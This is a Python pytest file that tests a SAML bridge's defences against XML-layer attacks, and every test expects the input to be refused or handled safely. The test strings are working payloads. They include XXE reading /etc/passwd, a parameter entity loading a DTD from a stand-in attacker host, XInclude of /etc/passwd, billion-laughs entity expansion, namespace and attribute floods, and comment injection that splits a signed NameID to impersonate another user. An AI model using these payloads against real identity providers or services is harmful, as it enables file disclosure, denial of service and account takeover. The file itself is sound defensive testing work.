"""Attacks on the XML layer: comment, processing-instruction and CDATA injection, DTDs and
entities (XXE, parameter entities, billion laughs), XInclude, size, depth, and floods of
attributes and of namespace declarations."""

from __future__ import annotations

import base64
from collections.abc import Callable

import pytest
from lxml import etree

from bridge.saml import ns
from bridge.saml.subject import derive_subject
from bridge.saml.xml_parser import (
    MAX_ATTRIBUTES,
    MAX_ELEMENTS,
    MAX_NAMESPACE_NAME_LENGTH,
    MAX_NAMESPACED_ATTRIBUTES,
    MAX_NAMESPACES_IN_SCOPE,
)
from tests.attacks import xml_tools as x
from tests.attacks.conftest import Attack

VICTIM = "admin@example.com"
ATTACKER = "admin@example.com.evil.example"  # an account the attacker really has at the IdP


def _attacker_response(attack: Attack) -> tuple[object, etree._Element]:
    """A genuine IdP response for the attacker's own account, whose NameID begins with the
    victim's: the setting for every injection attack on text."""

    def as_attacker(root: etree._Element) -> None:
        name_id = x.name_id(root)
        name_id.text = ATTACKER
        name_id.set("Format", ns.NAMEID_EMAIL)

    return attack.mutated(as_attacker)


def _inject(root: etree._Element, markup: bytes) -> bytes:
    """Split the NameID after the victim's address with ``markup``; the signature still verifies,
    because exclusive c14n without comments drops comments (and CDATA is plain text to it)."""
    data = etree.tostring(root)
    target = f">{ATTACKER}<".encode()
    assert data.count(target) == 1
    return data.replace(target, f">{VICTIM}".encode() + markup + b".evil.example<")


def test_comment_injection_in_nameid(attack: Attack) -> None:
    _, root = _attacker_response(attack)
    attack.refused(attack.post(_inject(root, b"<!---->")), "saml_forbidden_xml")


def test_processing_instruction_injection_in_nameid(attack: Attack) -> None:
    _, root = _attacker_response(attack)
    attack.refused(attack.post(_inject(root, b"<?evil x?>")), "saml_forbidden_xml")


def test_comment_injection_in_an_attribute_value(attack: Attack) -> None:
    _, root = attack.fresh()
    data = etree.tostring(root).replace(b">engineering<", b">engi<!---->neering<")
    attack.refused(attack.post(data), "saml_forbidden_xml")


def test_cdata_injection_reads_the_whole_signed_value(attack: Attack) -> None:
    # CDATA is text to the canonicalizer, so the signature holds; the bridge must read the value
    # the IdP signed, whole: the attacker's own account, never the victim's.
    login, root = _attacker_response(attack)
    response = attack.post(_inject(root, b"<![CDATA[]]>"))
    code = attack.accepted(response, login)
    tokens = attack.browser.exchange(code, login.verifier).get_json()
    import jwt

    claims = jwt.decode(tokens["access_token"], options={"verify_signature": False})
    issuer = "https://idp.example.org/metadata"
    assert claims["sub"] == derive_subject(issuer, ATTACKER)
    assert claims["sub"] != derive_subject(issuer, VICTIM)


def test_comment_outside_the_root(attack: Attack) -> None:
    _, root = attack.fresh()
    attack.refused(attack.post(b"<!-- hi -->" + etree.tostring(root)), "saml_forbidden_xml")


def _with_doctype(root: etree._Element, doctype: bytes, entity_use: bytes = b"") -> bytes:
    body = etree.tostring(root)
    if entity_use:
        body = body.replace(x.name_id(root).text.encode(), entity_use, 1)
    return b'<?xml version="1.0"?>\n' + doctype + b"\n" + body


def test_external_entity_xxe(attack: Attack) -> None:
    _, root = attack.fresh()
    data = _with_doctype(root, b'<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', b"&xxe;")
    attack.refused(attack.post(data), "saml_forbidden_xml")


def test_parameter_entity_out_of_band(attack: Attack) -> None:
    _, root = attack.fresh()
    data = _with_doctype(root, b'<!DOCTYPE r [<!ENTITY % remote SYSTEM '
                               b'"http://attacker.invalid/evil.dtd"> %remote;]>')
    attack.refused(attack.post(data), "saml_forbidden_xml")


def test_billion_laughs(attack: Attack) -> None:
    _, root = attack.fresh()
    entities = [b'<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">'.encode() for i in range(1, 10)]
    data = _with_doctype(root, b"<!DOCTYPE r [" + b"".join(entities) + b"]>", b"&lol9;")
    attack.refused(attack.post(data), "saml_forbidden_xml")


def test_internal_dtd_without_entities(attack: Attack) -> None:
    _, root = attack.fresh()
    attack.refused(attack.post(_with_doctype(root, b"<!DOCTYPE Response>")), "saml_forbidden_xml")


def test_undeclared_entity_reference(attack: Attack) -> None:
    _, root = attack.fresh()
    data = etree.tostring(root).replace(x.name_id(root).text.encode(), b"&evil;", 1)
    attack.refused(attack.post(data), "saml_malformed")


def test_xinclude(attack: Attack) -> None:
    _, root = attack.fresh()
    include = etree.SubElement(x.one(root, "/samlp:Response/samlp:Status"),
                               "{http://www.w3.org/2001/XInclude}include", href="file:///etc/passwd",
                               parse="text")
    assert include is not None
    attack.refused(attack.post(root), "saml_forbidden_xml")


def test_oversized_body_is_refused_before_parsing(attack: Attack) -> None:
    limit = attack.browser.bridge.settings.max_saml_response_bytes
    _, root = attack.fresh()
    padding = etree.SubElement(x.one(root, "/samlp:Response/samlp:Status"),
                               f"{{{x.SAMLP}}}StatusMessage")
    padding.text = "A" * limit
    response = attack.post(root)
    assert response.status_code == 413
    assert response.get_json()["code"] == "saml_too_large"
    assert attack.issued() == (0, 0, 0, 0)


def test_oversized_decoded_document_is_refused(attack: Attack) -> None:
    # Just under the HTTP body limit, but over the document limit once decoded.
    limit = attack.browser.bridge.settings.max_saml_response_bytes
    _, root = attack.fresh()
    padding = etree.SubElement(x.one(root, "/samlp:Response/samlp:Status"),
                               f"{{{x.SAMLP}}}StatusMessage")
    padding.text = "A" * (limit - len(etree.tostring(root)) + 10)
    attack.refused(attack.post(root), "saml_too_large")


def test_deeply_nested_input(attack: Attack) -> None:
    _, root = attack.fresh()
    holder = etree.SubElement(x.one(root, "/samlp:Response/samlp:Status"),
                              f"{{{x.SAMLP}}}StatusDetail")
    for _ in range(100):
        holder = etree.SubElement(holder, "nest")
    attack.refused(attack.post(root), "saml_malformed")


def _declaring(data: bytes, count: int, name: str = "flood") -> bytes:
    """``data`` with ``count`` more namespace declarations on its root element, none of them
    used: exclusive canonicalization leaves unused ones out, so signatures over it still hold."""
    end = data.index(b" ", data.index(b"<"))  # the end of the root's name
    declarations = b"".join(b' xmlns:%s%d="urn:%s:%d"' % (name.encode(), i, name.encode(), i)
                            for i in range(count))
    return data[:end] + declarations + data[end:]


def test_a_flood_of_namespace_declarations_is_refused_before_any_signature_check(
        attack: Attack) -> None:
    """Canonicalization, run by every signature check, costs the namespaces in scope times the
    nodes: thousands declared on the root of a message within its size limit cost seconds of
    CPU to check. Refused as the message is parsed, although the IdP's signatures still hold."""
    _, root = attack.fresh()
    attack.refused(attack.post(_declaring(etree.tostring(root), 5000)), "saml_malformed")


def test_a_forged_failure_with_a_namespace_flood_is_refused_at_the_parse(attack: Attack) -> None:
    """What a stranger can send with no login of their own: a failure answer (no assertion,
    so no subject to check first), its signature forged, the flood around it, no cookie."""
    _, root = attack.fresh()
    x.one(root, "//samlp:StatusCode").set("Value", "urn:oasis:names:tc:SAML:2.0:status:Responder")
    root.remove(x.assertion(root))
    attack.browser.client.delete_cookie("__Host-bridge-login")
    attack.browser.client.delete_cookie("bridge-login")
    attack.refused(attack.post(_declaring(etree.tostring(root), 5000)), "saml_malformed")
    # Without the flood: refused for the login it claims to answer, which is not under way in
    # this browser, before its signature is checked; and one that answers no request is only
    # what it says, a failure, with nothing checked and nothing done.
    attack.refused(attack.post(etree.tostring(root)), "saml_browser_mismatch")
    del root.attrib["InResponseTo"]
    attack.refused(attack.post(etree.tostring(root)), "saml_status_not_success")


def test_namespaces_nested_past_the_limit_are_refused(attack: Attack) -> None:
    """Spread over elements down one path, each within the limit: what counts is their sum."""
    _, root = attack.fresh()
    half = MAX_NAMESPACES_IN_SCOPE // 2 + 1
    etree.SubElement(x.one(root, "/samlp:Response/samlp:Status"), f"{{{x.SAMLP}}}StatusDetail",
                     nsmap={f"inner{i}": f"urn:inner:{i}" for i in range(half)})
    attack.refused(attack.post(_declaring(etree.tostring(root), half)), "saml_malformed")


def test_an_element_with_too_many_attributes_is_refused(attack: Attack) -> None:
    """Canonicalization sorts an element's attributes, in time that grows with the square of
    their number: 25,000 on one element cost seconds of CPU. Refused as the message is parsed;
    the IdP's signature over them would still be checked too late."""
    def attributes(count: int) -> Callable[[etree._Element], None]:
        def add(root: etree._Element) -> None:
            # An attribute value of no declared type is of any type, and takes any attributes.
            value = x.one(root, "(//saml:Assertion//saml:AttributeValue)[1]")
            value.attrib.pop("{http://www.w3.org/2001/XMLSchema-instance}type", None)
            for i in range(count - len(value.attrib)):
                value.set(f"a{i}", "v")
        return add

    login, root = attack.mutated(attributes(MAX_ATTRIBUTES))
    attack.accepted(attack.post(root), login)  # at the limit: a login like another
    before = attack.issued()
    _, root = attack.mutated(attributes(MAX_ATTRIBUTES + 1))
    attack.refused(attack.post(root), "saml_malformed", before)


@pytest.mark.parametrize("flood", ["namespaced attributes", "long namespace name", "elements"])
def test_what_canonicalization_would_repeat_is_bounded(attack: Attack, flood: str) -> None:
    """Attributes in many namespaces (sorted by their names, pair by pair), a long namespace
    name (written again on every element that uses it: 64 kB on 4,000 elements made 256 MB of
    output) and elements past the limit: refused as the message is parsed."""
    _, root = attack.fresh()
    status = x.one(root, "/samlp:Response/samlp:Status")
    if flood == "namespaced attributes":
        for i in range(MAX_NAMESPACED_ATTRIBUTES + 1):
            status.set(f"{{urn:flood:{i}}}a", "v")
    elif flood == "long namespace name":
        long_name = "urn:" + "n" * MAX_NAMESPACE_NAME_LENGTH
        for _ in range(50):
            etree.SubElement(status, f"{{{long_name}}}x")
    else:
        detail = etree.SubElement(status, f"{{{x.SAMLP}}}StatusDetail")
        for _ in range(MAX_ELEMENTS):
            etree.SubElement(detail, "x")
    attack.refused(attack.post(root), "saml_malformed")


XS = "http://www.w3.org/2001/XMLSchema"
XSI = "http://www.w3.org/2001/XMLSchema-instance"


def test_namespaces_declared_on_every_attribute_value_are_accepted(attack: Attack) -> None:
    """IdPs that declare xs and xsi on each attribute value write hundreds of declarations in
    a message with many values, and only a few are in scope anywhere: such a login goes through."""

    def values_declaring_their_types(root: etree._Element) -> None:
        statement = x.one(root, "//saml:Assertion/saml:AttributeStatement")
        attribute = etree.SubElement(statement, f"{{{x.SAML}}}Attribute",
                                     Name="urn:example:unmapped")
        for i in range(200):
            value = etree.SubElement(attribute, f"{{{x.SAML}}}AttributeValue",
                                     nsmap={"xs": XS, "xsi": XSI})
            value.set(f"{{{XSI}}}type", "xs:string")
            value.text = f"value {i}"

    login, root = attack.mutated(values_declaring_their_types)
    data = etree.tostring(root)
    assert data.count(b"xmlns:xs=") > MAX_NAMESPACES_IN_SCOPE
    attack.accepted(attack.post(data), login)


def test_not_base64(attack: Attack) -> None:
    attack.fresh()
    attack.refused(attack.post("not base64 at all!"), "saml_malformed")


def test_base64_of_garbage(attack: Attack) -> None:
    attack.fresh()
    attack.refused(attack.post(base64.b64encode(b"\x00\xff garbage <").decode()), "saml_malformed")


def test_a_different_saml_message(attack: Attack) -> None:
    attack.fresh()
    logout = (b'<samlp:LogoutRequest xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" '
              b'ID="_x" Version="2.0" IssueInstant="2026-01-01T00:00:00Z"/>')
    attack.refused(attack.post(logout), "saml_malformed")


def test_missing_saml_response_field(attack: Attack) -> None:
    attack.fresh()
    response = attack.browser.client.post("/saml/dev/acs", data={},
                                          headers={"Accept": "application/json"})
    attack.refused(response, "saml_malformed")
